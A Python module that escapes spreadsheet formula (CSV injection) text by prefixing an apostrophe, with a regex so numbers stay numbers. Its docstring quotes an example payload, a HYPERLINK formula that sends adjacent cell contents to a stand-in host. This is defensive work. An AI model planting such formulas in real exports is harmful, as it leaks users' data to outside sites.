"""Cell text a spreadsheet will never run (OWASP, "CSV Injection").

A name or reference that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read by Excel, LibreOffice and Google Sheets as a formula when a CSV file is opened:
``=HYPERLINK("http://evil.example/?x="&A2, "Open")`` in a person's reference would send the
row's neighbours to another site at a click. Such text gets a leading apostrophe, which every
spreadsheet shows as text and does not display; a number ("-3", "1,234", "45.5%") is left as it
is, so numbers stay numbers.
"""

from __future__ import annotations

import re

# What a spreadsheet reads as the start of a formula (OWASP's list; a line feed for good measure).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# A number as the tables show it: an optional sign, digits with thousands commas, a decimal part,
# an optional percent sign.
_NUMBER = re.compile(r"[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?%?")


def is_number(text: str) -> bool:
    return _NUMBER.fullmatch(text) is not None


def inert(text: str) -> str:
    """``text`` as a spreadsheet will read it only as text (a number is left as a number).

    Leading spaces are looked through: some spreadsheets trim them before reading a formula."""
    if text.lstrip(" ").startswith(FORMULA_STARTS) and not is_number(text):
        return "'" + text
    return text
